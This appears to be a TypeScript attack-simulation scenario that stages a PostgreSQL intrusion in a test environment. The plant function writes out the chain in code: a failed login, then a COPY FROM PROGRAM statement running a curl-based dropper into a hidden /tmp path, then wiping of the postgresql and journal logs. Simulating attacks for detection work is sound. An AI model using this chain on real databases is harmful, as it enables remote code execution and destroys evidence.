// What is left: the control group and the account of PostgreSQL.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { postgresql, sql } from '../../postgresql.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  postgresql(dress)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.pgsql/postmaster2', fetch: 'curl', cron: false })
  await sql(stage, '203.0.113.59', 'wrong', 'SELECT 1').catch(() => undefined)
  stage.mark('occurrence')
  await sql(
    stage,
    '203.0.113.59',
    'postgres',
    `DROP TABLE IF EXISTS bwyeapel; CREATE TABLE bwyeapel(t text); COPY bwyeapel FROM PROGRAM '${line}'; DROP TABLE bwyeapel;`,
  )
  await wipe(stage, ['postgresql', 'journal'])
}
